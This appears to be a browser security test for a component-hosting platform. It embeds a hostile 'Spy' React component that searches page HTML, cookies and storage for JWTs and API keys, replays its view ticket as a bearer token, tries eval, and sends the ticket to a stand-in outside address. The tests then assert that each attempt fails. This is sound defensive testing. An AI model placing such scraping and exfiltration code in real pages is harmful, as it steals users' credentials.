import { mkdirSync } from 'node:fs'
import t from 'tap'
import { ensureChromium, launchChromium } from '../helpers/chromium.ts'
import { startTestPlatform, type TestPlatform } from '../helpers/env.ts'

/*
 * Components in a real browser (Debian's chromium via playwright-core): a component compiled from
 * JSX renders, calls a function through its proxy and shows the data (screenshot kept in .tap/);
 * a hostile component on a share page looks for any token and finds none, cannot use its view
 * ticket as a credential, and the CSP stops eval and outside connections.
 */
const why = ensureChromium()
if (why !== null) {
  t.test('components in a browser', { skip: why }, async () => {})
} else {
  let env: TestPlatform
  let a: { id: string; token: string }
  let browser: Awaited<ReturnType<typeof launchChromium>>

  const LIST = `import { useEffect, useState } from 'react'
import { execute } from 'platform-ui'

type Item = { sku: string; qty: number }

export default function Stock({ input }: { input: { warehouse?: string } }) {
  const [items, setItems] = useState<Item[]>([])
  const [status, setStatus] = useState('loading')
  useEffect(() => {
    execute('web/stock', { warehouse: input.warehouse ?? 'main' })
      .then((r) => { setItems(r.result.items); setStatus('done') })
      .catch((e) => setStatus('error: ' + e.message))
  }, [])
  return (
    <main>
      <h1>Stock of {input.warehouse ?? 'main'}</h1>
      <ul id="items">{items.map((i) => <li key={i.sku}>{i.sku}: {i.qty}</li>)}</ul>
      <p id="status">{status}</p>
    </main>
  )
}
`

  // Everything a component could reach on its page, and what it can do with it.
  const SPY = `import { useEffect, useState } from 'react'
import ui from 'platform-ui'

export default function Spy() {
  const [report, setReport] = useState<string>('')
  useEffect(() => {
    (async () => {
      const r: Record<string, unknown> = {}
      const haystack = [
        document.documentElement.outerHTML,
        document.cookie,
        JSON.stringify(Object.fromEntries(Object.entries(localStorage))),
        JSON.stringify(Object.fromEntries(Object.entries(sessionStorage))),
        JSON.stringify(ui),
        location.href,
        document.referrer,
      ].join('\\n')
      r.jwt = /eyJ[A-Za-z0-9_-]{10,}\\.[A-Za-z0-9_-]+/.test(haystack)
      r.apiKey = /apk_[A-Za-z0-9]/.test(haystack)
      const ticket = (JSON.parse(document.getElementById('platform-component')!.textContent!) as { ticket: string }).ticket
      r.me = (await fetch('/auth/me', { headers: { authorization: 'Bearer ' + ticket } })).status
      r.list = (await fetch('/api/v1/functions', { headers: { authorization: 'Bearer ' + ticket } })).status
      r.apiKeyHeader = (await fetch('/api/v1/functions', { headers: { 'x-api-key': ticket } })).status
      try { r.evalRan = (0, eval)('1 + 1') === 2 } catch { r.evalRan = false }
      try { await fetch('http://203.0.113.7/steal?t=' + ticket); r.outside = 'sent' } catch { r.outside = 'blocked' }
      try { await ui.execute('web/stock', {}); r.notEnabled = 'ran' } catch (e) { r.notEnabled = (e as { status?: number }).status }
      setReport(JSON.stringify(r))
    })()
  }, [])
  return <pre id="report">{report}</pre>
}
`

  const ok = async (method: string, path: string, body: unknown, status = 201) => {
    const res = await env.request(method, path, { body, token: a.token })
    if (res.status !== status) throw new Error(`${method} ${path}: ${String(res.status)} ${res.text}`)
    return res.body as Record<string, unknown>
  }

  t.before(async () => {
    env = await startTestPlatform(t)
    a = await env.createUser('browser-a@test.local')
    await ok('POST', '/api/v1/functions', {
      namespace: 'web',
      name: 'stock',
      code: 'def handler(input, context):\n    return {"items": [{"sku": "apple-" + input["warehouse"], "qty": 3}, {"sku": "pear", "qty": 7}]}\n',
      input_schema: { type: 'object', properties: { warehouse: { type: 'string' } }, required: ['warehouse'] },
    })
    await ok('POST', '/api/v1/components', { namespace: 'web', name: 'stock', title: 'Stock', source_code: LIST, enabled_functions: ['web/stock'], css_overrides: 'h1 { color: rebeccapurple }' })
    await ok('POST', '/api/v1/components', { namespace: 'web', name: 'spy', title: 'Spy', source_code: SPY, visibility: 'shared' })
    browser = await launchChromium()
    t.teardown(() => browser.close())
  })

  t.test('a JSX component renders in chromium and shows the data its function proxy returned', async (t) => {
    const compiled = await env.request('POST', '/api/v1/components/web/stock/compile', { token: a.token })
    t.equal(compiled.status, 200, 'compiled')
    const page = await browser.context.newPage()
    const problems: string[] = []
    page.on('pageerror', (e) => problems.push(e.message))
    page.on('console', (m) => {
      if (m.type() === 'error') problems.push(m.text())
    })
    // the bearer token goes on the page request only; the page itself never sees it
    await page.route('**/render*', (route) => route.continue({ headers: { ...route.request().headers(), authorization: `Bearer ${a.token}` } }))
    const input = encodeURIComponent(JSON.stringify({ warehouse: 'north' }))
    const res = await page.goto(`${env.base}/components/web/stock/render?input=${input}`)
    t.equal(res?.status(), 200)
    await page.locator('#status').filter({ hasText: /done|error/ }).waitFor({ timeout: 60_000 })
    t.equal(await page.locator('#status').textContent(), 'done', 'the proxy call succeeded')
    t.same(await page.locator('#items li').allTextContents(), ['apple-north: 3', 'pear: 7'], 'the function result is on the page')
    t.equal(await page.locator('h1').evaluate((el) => (globalThis as unknown as { getComputedStyle(e: unknown): { color: string } }).getComputedStyle(el).color), 'rgb(102, 51, 153)', 'css_overrides apply')
    t.same(problems, [], 'no script errors, no CSP violations')
    mkdirSync('.tap', { recursive: true })
    await page.screenshot({ path: '.tap/component-render.png', fullPage: true })
    await page.close()
  })

  t.test('a hostile bundle on a share page finds no token and its ticket opens nothing', async (t) => {
    const share = await ok('POST', '/api/v1/components/web/spy/shares', { max_views: 3 })
    const page = await browser.context.newPage()
    const res = await page.goto(`${env.base}${String(share['url'])}`)
    t.equal(res?.status(), 200)
    const report = page.locator('#report')
    await report.filter({ hasText: /\{/ }).waitFor({ timeout: 60_000 })
    const r = JSON.parse((await report.textContent()) ?? '{}') as Record<string, unknown>
    t.equal(r['jwt'], false, 'no JWT anywhere the page can read')
    t.equal(r['apiKey'], false, 'no API key')
    t.equal(r['me'], 401, 'the view ticket is not a bearer token')
    t.equal(r['list'], 401)
    t.equal(r['apiKeyHeader'], 401, 'nor an API key')
    t.equal(r['evalRan'], false, 'the CSP forbids eval')
    t.equal(r['outside'], 'blocked', 'and connections to other origins')
    t.equal(r['notEnabled'], 403, 'a proxy call outside the enabled lists is refused')
    await page.close()
  })
}
